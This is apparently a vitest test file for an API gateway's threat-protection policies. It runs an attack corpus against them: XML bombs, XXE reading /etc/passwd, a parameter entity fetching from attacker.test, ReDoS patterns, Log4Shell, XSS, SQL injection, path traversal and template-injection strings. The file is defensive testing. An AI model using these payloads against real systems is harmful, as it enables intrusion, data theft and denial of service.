// Hostile inputs against the policies (issue 4's attack corpus): each is rejected or passed as the
// policy is configured, and none crashes, recurses without bound or stalls. No timing assertions
// (docs/architecture.md#tests-and-quality-bars): the inputs are sized so that a super-linear implementation would not finish.
import { DOMParser } from '@xmldom/xmldom';
import { describe, expect, it } from 'vitest';
import { toPolicyFault } from '../flow/fault-response.ts';
import { PolicyFault } from '../flow/faults.ts';
import { DuplicateContentTypeError, MalformedContentTypeError } from '../flow/message.ts';
import { makePolicyContext, type PolicyContextOptions } from '../flow/policy-context.test-support.ts';
import type { PolicyStep } from '../flow/types.ts';
import { RefusedChangeError } from '../flow/allowed-changes.ts';
import { policyRegistry } from './registry.ts';

/** A threat fault as `<error code> <kind>`: Apigee's one code, and the kind its faultstring names first. */
function threatOutcome(fault: PolicyFault): string {
  const kind = /reason: (\w+):/.exec(fault.message)?.[1];
  return kind ? `${fault.errorCode} ${kind}` : fault.errorCode;
}

const meta = { namespace: 'shop', name: 'attack' };

function step(type: string, config: unknown): PolicyStep {
  const implementation = policyRegistry.get(type);
  if (!implementation) throw new Error(`no ${type}`);
  return implementation.create(config as never, meta);
}

/** "pass", or the error code of the PolicyFault; anything else thrown fails the test. */
function outcome(s: PolicyStep, opts: PolicyContextOptions): string {
  try {
    const result = s(makePolicyContext(opts));
    return result && 'respond' in result ? `respond ${result.respond.status}` : 'pass';
  } catch (error) {
    if (error instanceof PolicyFault) return threatOutcome(error);
    // A Content-Type that names several media types or none: the engine's 400 (flow/fault-response.ts).
    // A change Envoy would not apply (a naughty value with CR or LF copied into a header): gatehouse.RefusedChange.
    if (
      error instanceof DuplicateContentTypeError ||
      error instanceof MalformedContentTypeError ||
      error instanceof RefusedChangeError
    )
      return toPolicyFault(error).errorCode;
    throw error;
  }
}

const json = (body: string): PolicyContextOptions => ({ method: 'POST', body, contentType: 'application/json' });
const xml = (body: string): PolicyContextOptions => ({ method: 'POST', body, contentType: 'application/xml' });

describe('attack corpus: JSON', () => {
  const guard = step('JSONThreatProtection', {
    containerDepth: 20,
    arrayElementCount: 1000,
    objectEntryCount: 100,
    objectEntryNameLength: 64,
    stringValueLength: 4096,
  });
  const unlimited = step('JSONThreatProtection', {});

  it('rejects a depth bomb at the limit, and scans one without limits iteratively', () => {
    expect(outcome(guard, json('['.repeat(1_000_000)))).toBe(
      'steps.jsonthreatprotection.ExecutionFailed ContainerDepthExceeded',
    );
    expect(outcome(unlimited, json('['.repeat(200_000)))).toBe(
      'steps.jsonthreatprotection.ExecutionFailed ExecutionFailed',
    );
    expect(outcome(unlimited, json(`${'['.repeat(200_000)}${']'.repeat(200_000)}`))).toBe('pass');
  });

  it('rejects width bombs', () => {
    expect(outcome(guard, json(`[${'0,'.repeat(1_000_000)}0]`))).toBe(
      'steps.jsonthreatprotection.ExecutionFailed ArrayElementCountExceeded',
    );
    expect(outcome(guard, json(`{${Array.from({ length: 200_000 }, (_, i) => `"k${i}":0`).join(',')}}`))).toBe(
      'steps.jsonthreatprotection.ExecutionFailed ObjectEntryCountExceeded',
    );
    expect(outcome(guard, json(`["${'x'.repeat(5_000_000)}"]`))).toBe(
      'steps.jsonthreatprotection.ExecutionFailed StringValueLengthExceeded',
    );
  });

  it('never lets __proto__ or constructor keys poison prototypes', () => {
    const poison = '{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}';
    expect(outcome(guard, json(poison))).toBe('pass'); // within limits: the scan builds nothing
    const extract = step('ExtractVariables', { jsonPayload: [{ name: 'p', jsonPath: '$.__proto__.polluted' }] });
    expect(outcome(extract, json(poison))).toBe('steps.extractvariables.JsonPathParsingFailure');
    const regex = step('RegularExpressionProtection', {
      jsonPayload: [{ expression: '$..polluted', patterns: ['yes'] }],
    });
    expect(outcome(regex, json(poison))).toBe('steps.regexprotection.ExecutionFailed');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('attack corpus: XML', () => {
  const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 ${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('\n ')}
]>
<lolz>&lol9;</lolz>`;
  const xxe = '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>';
  const parameterEntity = '<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.test/x.dtd"> %remote;]><d/>';
  const guard = step('XMLThreatProtection', {});

  it.each([
    ['billion laughs', billionLaughs],
    ['external entity (XXE)', xxe],
    ['parameter entity', parameterEntity],
  ])('rejects %s without expanding anything', (_name, body) => {
    expect(outcome(guard, xml(body))).toBe('steps.xmlthreatprotection.ExecutionFailed DTDNotAllowed');
    const extract = step('ExtractVariables', { xmlPayload: { variables: [{ name: 'v', xPath: 'string(/*)' }] } });
    expect(outcome(extract, xml(body))).toBe('steps.extractvariables.ExecutionFailed');
    const regex = step('RegularExpressionProtection', {
      xmlPayload: { xPaths: [{ expression: '/*', patterns: ['root:'] }] },
    });
    expect(outcome(regex, xml(body))).toBe('steps.regexprotection.ExecutionFailed');
  });

  it('bounds depth: the limit rejects it, and XPath never sees a deep document', () => {
    const deep = `${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`;
    expect(outcome(step('XMLThreatProtection', { structureLimits: { nodeDepth: 50 } }), xml(deep))).toBe(
      'steps.xmlthreatprotection.ExecutionFailed NodeDepthExceeded',
    );
    const extract = step('ExtractVariables', { xmlPayload: { variables: [{ name: 'v', xPath: 'count(//a)' }] } });
    expect(outcome(extract, xml(deep))).toBe('steps.extractvariables.ExecutionFailed');
  });

  it('rejects a wide element and a huge attribute at their limits', () => {
    const wide = `<a>${'<b/>'.repeat(200_000)}</a>`;
    expect(outcome(step('XMLThreatProtection', { structureLimits: { childCount: 100 } }), xml(wide))).toBe(
      'steps.xmlthreatprotection.ExecutionFailed ChildCountExceeded',
    );
    expect(
      outcome(
        step('XMLThreatProtection', { valueLimits: { attribute: 1000 } }),
        xml(`<a b="${'x'.repeat(2_000_000)}"/>`),
      ),
    ).toBe('steps.xmlthreatprotection.ExecutionFailed AttributeValueLengthExceeded');
  });
});

describe('attack corpus: catastrophic backtracking', () => {
  const evil = `${'a'.repeat(100_000)}!`;

  it.each([
    ['^(a+)+$', 'a'.repeat(100_000)],
    ['^(a|a)*$', 'a'.repeat(100_000)],
    ['^(a|aa)+$', 'a'.repeat(100_000)],
    ['^(.*a){20}$', 'a'.repeat(100_000)],
    ['^(([a-z])+.)+[A-Z]([a-z])+$', `${'a'.repeat(100_000)}Ab`],
  ])('matches %s against a long input in linear time', (pattern, matching) => {
    const regex = step('RegularExpressionProtection', {
      headers: [{ name: 'x-input', patterns: [pattern] }],
      queryParams: [{ name: 'q', patterns: [pattern] }],
    });
    expect(outcome(regex, { headers: { 'x-input': evil }, query: `q=${evil}` })).toBe('pass');
    expect(outcome(regex, { headers: { 'x-input': matching } })).toBe('steps.regexprotection.ThreatDetected');
  });

  it('extracts with {var} patterns from a long, nearly matching value', () => {
    const extract = step('ExtractVariables', { headers: [{ name: 'x-input', patterns: ['{a}-{b}-{c}-{d}-{e}!'] }] });
    expect(outcome(extract, { headers: { 'x-input': '-'.repeat(50_000) } })).toBe('pass');
  });
});

// A compact sample in the spirit of the big-list-of-naughty-strings.
const naughtyStrings = [
  '',
  ' ',
  'undefined',
  'null',
  'NaN',
  '0',
  '-1',
  '1e309',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '\u0000',
  'a\u0000b',
  '\u0007\u001b[31mred',
  '\t\r\n',
  '\uFEFFbom',
  '\u200B',
  '\u202Eevil\u202C',
  'مرحبا',
  'שָׁלוֹם',
  '田中さんにあげて下さい',
  '👾 🙇 💁 🙅',
  '👨‍👩‍👧‍👦',
  '\uD800',
  '\uDFFF',
  'Ω≈ç√∫',
  'Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤ ̖t̝͕̳̣̻̪͞h̼͓̲̦̳̘̲e͇̣̰̦̬͎ ̢̼̻̱̘h͚͎͙̜̣̲ͅi̦̲̣̰̤v̻͍e̺̭̳̪̰-m̢iͅn̖̺̞̲̯̰d̵̼̟͙̩̼̘̳',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR 1=1 --",
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '%00',
  '%',
  '../../../../etc/passwd',
  '\\\\server\\share',
  'Basic ',
  'Basic Og==',
  '::',
  '1.2.3.4.5',
  '::ffff:',
  '[::1]',
  '999.1.1.1',
];

/** Percent-encodes; a lone surrogate (which encodeURIComponent refuses) becomes invalid UTF-8 escapes. */
function percentEncode(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    return '%ED%A0%80';
  }
}

describe('attack corpus: naughty strings', () => {
  const policies: Array<[string, PolicyStep]> = [
    [
      'RegularExpressionProtection',
      step('RegularExpressionProtection', {
        uriPath: ['(?i)etc/passwd'],
        headers: [{ name: 'x-n', patterns: ['(?i)<script'] }],
        queryParams: [{ name: 'q', patterns: ["(?i)'\\s*or\\s"] }],
        variables: [{ name: 'request.header.x-n', patterns: ['jndi'] }],
      }),
    ],
    [
      'ExtractVariables',
      step('ExtractVariables', {
        headers: [{ name: 'x-n', patterns: ['{a}:{b}'] }],
        queryParams: [{ name: 'q', patterns: ['{q}'] }],
        ignoreUnresolvedVariables: true,
      }),
    ],
    [
      'AccessControl',
      step('AccessControl', {
        validateBasedOn: 'XForwardedForAllIPs',
        rules: [{ action: 'Allow', sourceAddresses: ['0.0.0.0/0', '::/0'] }],
      }),
    ],
    [
      'BasicAuthentication',
      step('BasicAuthentication', {
        operation: 'Decode',
        user: { ref: 'u' },
        password: { ref: 'p' },
        source: 'request.header.x-n',
      }),
    ],
    ['CORS', step('CORS', { allowOrigins: ['https://*.example.com'] })],
    [
      'AssignMessage',
      step('AssignMessage', {
        set: { headers: { 'x-echo': '{request.header.x-n}' }, queryParams: { q: '{request.header.x-n}' } },
      }),
    ],
    ['VerifyAPIKey', step('VerifyAPIKey', { apiKey: { ref: 'request.header.x-n' } })],
  ];

  it.each(policies)('%s handles every naughty header, query and forwarded-for value without crashing', (_type, s) => {
    for (const value of naughtyStrings) {
      const opts: PolicyContextOptions = {
        method: 'OPTIONS',
        path: `/p/${percentEncode(value)}`,
        query: `q=${percentEncode(value)}`,
        headers: {
          'x-n': value,
          'x-forwarded-for': value,
          origin: value,
          'access-control-request-method': 'GET',
          'x-api-key': value,
        },
      };
      expect(outcome(s, opts)).toMatch(/^(pass|respond \d+|[\w.-]+)$/);
    }
  });

  it('rejects the ones it is configured for', () => {
    const [, regex] = policies[0]!;
    expect(outcome(regex, { headers: { 'x-n': '<script>alert(1)</script>' } })).toBe(
      'steps.regexprotection.ThreatDetected',
    );
    expect(outcome(regex, { path: '/p/..%2F..%2Fetc%2Fpasswd' })).toBe('steps.regexprotection.ThreatDetected');
    expect(outcome(regex, { query: `q=${encodeURIComponent("' OR 1=1 --")}` })).toBe(
      'steps.regexprotection.ThreatDetected',
    );
    const [, xff] = policies[2]!;
    expect(outcome(xff, { headers: { 'x-forwarded-for': '1.2.3.4.5' } })).toBe('accesscontrol.IPDeniedAccess');
  });

  it('scans naughty strings inside JSON and XML bodies', () => {
    const jsonGuard = step('JSONThreatProtection', { stringValueLength: 1000, objectEntryNameLength: 1000 });
    const xmlGuard = step('XMLThreatProtection', { valueLimits: { text: 1000 } });
    for (const value of naughtyStrings) {
      expect(outcome(jsonGuard, json(JSON.stringify({ [value]: value })))).toBe('pass');
      const escaped = value.replace(/&/g, '&amp;').replace(/</g, '&lt;');
      expect(outcome(xmlGuard, xml(`<a>${escaped}</a>`))).toMatch(/^(pass|threat\.xml\.ExecutionFailed)$/);
    }
  });
});

describe('attack corpus: bodies that made JSONPath and XPath super-linear (issue 13)', () => {
  // Before: jsonpath-plus copied the path at every step and every nested container was stringified and
  // matched whole; xpath.js on xmldom compared document order by walking siblings. Each case below took
  // from 11 s to minutes; now each is linear in the body (no timing asserted: they simply finish).
  const MiB = 1024 * 1024;
  const deepJson = (levels: number, width: number) => {
    let body = '1';
    for (let i = 0; i < levels; i++) body = `{"s":"${'y'.repeat(width)}","c":${body}}`;
    return body;
  };
  const wideDeepJson = (levels: number, leaves: number) =>
    `${'{"c":'.repeat(levels)}[${Array(leaves).fill('"a"').join(',')}]${'}'.repeat(levels)}`;
  const wideDeepXml = (levels: number, leaves: number) =>
    `${'<a>'.repeat(levels)}${'<b>x</b>'.repeat(leaves)}${'</a>'.repeat(levels)}`;
  const regex = (payload: object) => step('RegularExpressionProtection', payload);
  const SCRIPT = ['(?i)<\\s*script\\b'];

  it('matches $..* over a 1 MiB body 250 levels deep, with or without a threat at the bottom', () => {
    const guard = regex({ jsonPayload: [{ expression: '$..*', patterns: SCRIPT }] });
    expect(outcome(guard, json(deepJson(250, 4000)))).toBe('pass');
    expect(outcome(guard, json(deepJson(250, 4000).replace('1}', '"<script>"}')))).toBe(
      'steps.regexprotection.ThreatDetected',
    );
    expect(outcome(guard, json(wideDeepJson(250, MiB / 4)))).toBe('pass');
  }, 60_000);

  it('matches //* over a 1 MiB XML body 250 levels deep with 130,000 leaves', () => {
    const guard = regex({ xmlPayload: { xPaths: [{ expression: '//*', patterns: SCRIPT }] } });
    expect(outcome(guard, xml(wideDeepXml(250, MiB / 8)))).toBe('pass');
    expect(outcome(guard, xml(wideDeepXml(250, MiB / 8).replace('<b>x</b>', '<b>&lt;script&gt;</b>')))).toBe(
      'steps.regexprotection.ThreatDetected',
    );
  }, 60_000);

  it('selects /a/b among 100,000 siblings', () => {
    const extract = step('ExtractVariables', {
      xmlPayload: {
        variables: [
          { name: 'n', xPath: 'count(/a/b)' },
          { name: 'last', xPath: '/a/b[last()]' },
        ],
      },
    });
    const ctx = makePolicyContext(xml(`<a>${'<b>x</b>'.repeat(99_999)}<b>end</b></a>`));
    expect(extract(ctx)).toBeUndefined();
    expect(ctx.variables.get('n')).toBe('100000');
    expect(ctx.variables.get('last')).toBe('end');
  }, 60_000);

  it('refuses to extract $..* of a deep body as 125 MB of repeated JSON', () => {
    const extract = step('ExtractVariables', { jsonPayload: [{ name: 'all', jsonPath: '$..*' }] });
    expect(outcome(extract, json(deepJson(250, 4000)))).toBe('steps.extractvariables.ExecutionFailed');
    const flat = step('ExtractVariables', { jsonPayload: [{ name: 'all', jsonPath: '$..*' }] });
    expect(outcome(flat, json('{"a":[1,2],"b":"x"}'))).toBe('pass');
  }, 60_000);
});

describe('attack corpus: Content-Type spellings that used to switch the guards off', () => {
  const jsonBomb = '['.repeat(1_000);
  const xmlBomb = `<!DOCTYPE a [<!ENTITY a "${'x'.repeat(10)}">]><a>&a;</a>`;
  const jsonGuard = step('JSONThreatProtection', { containerDepth: 20 });
  const xmlGuard = step('XMLThreatProtection', {});
  const regex = step('RegularExpressionProtection', {
    jsonPayload: [{ expression: '$..q', patterns: ['(?i)union\\s+select'] }],
    xmlPayload: { xPaths: [{ expression: '//q', patterns: ['(?i)union\\s+select'] }] },
  });
  const sqlJson = '{"q":"1 UNION SELECT password"}';
  const sqlXml = '<r><q>1 UNION SELECT password</q></r>';
  const post = (body: string, headers: Record<string, string | string[]> = {}): PolicyContextOptions => ({
    method: 'POST',
    body,
    headers,
  });

  it.each([
    ['text/json'],
    ['application/x-json'],
    ['application/JSON'],
    [' application/json ;charset=utf-8'],
    ['application/vnd.evil+json'],
  ])('JSON declared %j is checked', (type) => {
    expect(outcome(jsonGuard, post(jsonBomb, { 'content-type': type }))).toBe(
      'steps.jsonthreatprotection.ExecutionFailed ContainerDepthExceeded',
    );
    expect(outcome(regex, post(sqlJson, { 'content-type': type }))).toBe('steps.regexprotection.ThreatDetected');
  });

  it.each([['text/xml'], ['APPLICATION/XML'], ['application/evil+xml; x="a,b"']])(
    'XML declared %j is checked',
    (type) => {
      expect(outcome(xmlGuard, post(xmlBomb, { 'content-type': type }))).toBe(
        'steps.xmlthreatprotection.ExecutionFailed DTDNotAllowed',
      );
      expect(outcome(regex, post(sqlXml, { 'content-type': type }))).toBe('steps.regexprotection.ThreatDetected');
    },
  );

  it('a missing Content-Type does not switch them off: the body is sniffed', () => {
    expect(outcome(jsonGuard, post(`\n ${jsonBomb}`))).toBe(
      'steps.jsonthreatprotection.ExecutionFailed ContainerDepthExceeded',
    );
    expect(outcome(xmlGuard, post(xmlBomb))).toBe('steps.xmlthreatprotection.ExecutionFailed DTDNotAllowed');
    expect(outcome(regex, post(sqlJson))).toBe('steps.regexprotection.ThreatDetected');
    expect(outcome(regex, post(sqlXml))).toBe('steps.regexprotection.ThreatDetected');
  });

  it.each([
    ['a list', { 'content-type': 'application/json, text/plain' }],
    ['a list, JSON last', { 'content-type': 'text/plain,application/json' }],
    ['two headers', { 'content-type': ['text/plain', 'application/json'] }],
    ['two headers, differently cased', { 'Content-Type': 'text/plain', 'content-type': 'application/xml' }],
    ['the same type twice', { 'content-type': ['application/json', 'application/json'] }],
  ])('%s is refused with protocol.http.DuplicateHeader', (_name, headers) => {
    for (const guard of [jsonGuard, xmlGuard, regex]) {
      expect(outcome(guard, post(jsonBomb, headers))).toBe('protocol.http.DuplicateHeader');
      expect(outcome(guard, post(xmlBomb, headers))).toBe('protocol.http.DuplicateHeader');
    }
  });

  it('a Content-Type that is not a media type is refused with gatehouse.InvalidContentType', () => {
    for (const type of ['json', 'application/json x', 'application /json', 'text/'])
      expect(outcome(jsonGuard, post(jsonBomb, { 'content-type': type })), type).toBe('gatehouse.InvalidContentType');
    // Well-formed ones are decided on: a JSON type with an empty parameter list, a wildcard (not JSON).
    expect(outcome(jsonGuard, post(jsonBomb, { 'content-type': 'application/json;' }))).toBe(
      'steps.jsonthreatprotection.ExecutionFailed ContainerDepthExceeded',
    );
    expect(outcome(jsonGuard, post(jsonBomb, { 'content-type': '*/*' }))).toBe('pass');
  });
});

describe('attack corpus: template injection', () => {
  const jsonPayload = step('AssignMessage', {
    set: {
      payload: {
        contentType: 'application/json',
        content: '{"user":"{request.header.x-n}","{request.header.x-n}":"k","n":"{toUpperCase(request.header.x-n)}"}',
      },
    },
  });
  const xmlPayload = step('AssignMessage', {
    set: {
      payload: {
        contentType: 'text/xml',
        content:
          '<r a="{request.header.x-n}" b=\'{request.header.x-n}\'><t>{request.header.x-n}</t><c><![CDATA[{request.header.x-n}]]></c><!-- {request.header.x-n} --></r>',
      },
    },
  });

  it('no naughty string adds a key to a JSON payload or markup to an XML payload', () => {
    const strings = [
      ...naughtyStrings,
      '","admin":true,"x":"',
      '\\","admin":true,"x":"\\',
      'a\u2028b\u2029c',
      '</t><admin/><t>',
      '"/><admin a="',
      "' onload='",
      ']]><admin/><![CDATA[',
      '--><admin/><!--',
    ];
    for (const value of strings) {
      const jsonCtx = makePolicyContext({ method: 'POST', headers: { 'x-n': value } });
      void jsonPayload(jsonCtx);
      const parsed = JSON.parse(jsonCtx.request.body.text()) as Record<string, string>;
      expect(Object.keys(parsed).length, value).toBe(value === 'user' || value === 'n' ? 2 : 3);
      expect(parsed.user).toBe(value === 'user' ? 'k' : value);

      const xmlCtx = makePolicyContext({ method: 'POST', headers: { 'x-n': value } });
      void xmlPayload(xmlCtx);
      const text = xmlCtx.request.body.text();
      expect(
        outcome(step('XMLThreatProtection', {}), { method: 'POST', body: text, contentType: 'text/xml' }),
        value,
      ).toBe('pass');
      const doc = new DOMParser().parseFromString(text, 'text/xml');
      expect(doc.getElementsByTagName('*').length, value).toBe(3); // r, t, c: nothing added
    }
  });
});
